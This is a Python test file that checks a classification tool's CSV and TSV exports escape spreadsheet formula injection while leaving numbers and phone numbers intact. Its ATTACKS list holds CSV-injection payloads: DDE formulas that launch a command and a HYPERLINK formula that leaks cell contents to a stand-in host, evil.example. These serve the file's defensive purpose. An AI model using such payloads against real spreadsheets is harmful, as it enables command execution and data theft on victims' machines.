"""No spreadsheet runs what a stranger wrote."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from invariants import header_of, read_rows
from running import GOOD, Done, forge, read_jsonl
from servers import ScriptedServer, completion

from inference_forge.core.terminal import safe_line

STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
ATTACKS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
)
HARMLESS = ("-12.50", "+1,234.56", "-3 %", "+49 30 123456", "+1 (555) 010-9999", "plain = text", "")

pytestmark = pytest.mark.usefixtures("isolated")


def answered(*arguments: object, summary: str = "one line", model: str = "m") -> Done:
    """Classify with a model that answers all alike."""
    body = completion({**GOOD, "summary": summary}).body
    assert isinstance(body, dict)
    reply = completion({**GOOD, "summary": summary})
    named = type(reply)(body={**body, "model": model})
    with ScriptedServer(lambda *_: named) as server:
        where = ("--provider", "openai", "--base-url", server.url, "--model", "m", "--no-cache")
        done = forge("classify", *arguments, *where)
    assert done.code == 0, done.err
    return done


@pytest.mark.parametrize("attack", ATTACKS)
def test_added_cells_are_guarded_in_tables_and_raw_in_json(attack: str) -> None:
    """What a model wrote, its name included, gets an apostrophe in a CSV or TSV."""
    Path("in.csv").write_text("id,text\n1,hello\n")
    shown = safe_line(attack).strip()
    for name in ("out.csv", "out.tsv"):
        answered("in.csv", "-o", name, summary=f"{attack} x", model=attack)
        row = dict(zip(header_of(Path(name)), read_rows(Path(name))[0], strict=True))
        assert not row["summary"].startswith(STARTS), row
        assert row["model"] == (f"'{shown}" if shown.startswith(STARTS) else shown)
    answered("in.csv", "-o", "out.jsonl", summary=f"{attack} x", model=attack)
    row = read_jsonl(Path("out.jsonl").read_bytes())[0]
    assert row["model"] == shown
    assert not row["summary"].startswith("'")


@pytest.mark.parametrize("attack", ATTACKS)
def test_cells_and_names_from_json_are_guarded_in_tables(attack: str) -> None:
    """A JSON export may come from anybody: its cells and its members' names."""
    Path("in.jsonl").write_text(json.dumps({"text": "hello", attack: attack, "n": -5}) + "\n")
    answered("in.jsonl", "-o", "out.csv")
    assert header_of(Path("out.csv"))[:3] == ["text", f"'{attack}", "n"]
    assert read_rows(Path("out.csv"))[0][:3] == ["hello", f"'{attack}", "-5"]
    answered("in.jsonl", "-o", "out.jsonl")
    assert read_jsonl(Path("out.jsonl").read_bytes())[0][attack] == attack


@pytest.mark.parametrize("attack", ATTACKS)
def test_failures_are_guarded_too(attack: str) -> None:
    """The failures file of a JSON input may be a table."""
    Path("in.jsonl").write_text(json.dumps({"text": "", attack: attack}) + "\n")
    done = forge("classify", "in.jsonl", "-o", "out.csv")
    assert done.code == 3
    header, row = header_of(Path("out.failures.csv")), read_rows(Path("out.failures.csv"))[0]
    assert (header[:2], row[:2]) == (["text", f"'{attack}"], ["", f"'{attack}"])


@pytest.mark.parametrize("cell", HARMLESS)
def test_numbers_and_telephone_numbers_stay(cell: str) -> None:
    """An apostrophe before them would make text of a column of numbers."""
    Path("in.jsonl").write_text(json.dumps({"text": "hello", "n": cell, f"{cell} ": 1}) + "\n")
    answered("in.jsonl", "-o", "out.csv", summary=cell or "-1")
    row = dict(zip(header_of(Path("out.csv")), read_rows(Path("out.csv"))[0], strict=True))
    assert (row["n"], row["summary"]) == (cell, cell or "-1")


def test_a_table_keeps_its_own_cells_and_names_unless_told() -> None:
    """A table's formulas are its own; `--csv-guard all` guards them as well, `off` nothing."""
    Path("in.csv").write_text("=a,text\n=1+1,hello\n")
    for guard, own, added in (("added", "", "'"), ("all", "'", "'"), ("off", "", "")):
        answered("in.csv", "--csv-guard", guard, model="=1")
        header, row = header_of(Path("in.results.csv")), read_rows(Path("in.results.csv"))[0]
        assert (header[0], row[0], row[-1]) == (f"{own}=a", f"{own}=1+1", f"{added}=1")
    Path("in.jsonl").write_text('{"text":"hello","=a":"=1"}\n')
    answered("in.jsonl", "-o", "out.csv", "--csv-guard", "off")
    assert header_of(Path("out.csv"))[1] == "=a"


def test_the_prefix_is_guarded_and_may_not_hold_control_characters() -> None:
    """`--prefix =` would make formulas of all added names; line breaks would break the header."""
    Path("in.csv").write_text("id,text\n1,hello\n")
    answered("in.csv", "--prefix", "=")
    assert header_of(Path("in.results.csv"))[2] == "'=category"
    answered("in.csv", "--prefix", "=", "-o", "out.jsonl")
    assert "=category" in read_jsonl(Path("out.jsonl").read_bytes())[0]
    for prefix in ("a\nb", "\x1b[31m", "\r", "\t", "\x9b", "\u202e", "\u200b", "a\x7f"):
        for name in ("in.csv", "in.jsonl"):
            Path("in.jsonl").write_text('{"text":"hello"}\n')
            done = forge("classify", name, "--prefix", prefix, "-o", "new.csv")
            assert done.code == 2
            assert done.last == (
                f"forge: error: --prefix {prefix!r} holds a control character or one that cannot "
                "be seen; use letters, digits and underscores."
            )
            assert not Path("new.csv").exists()
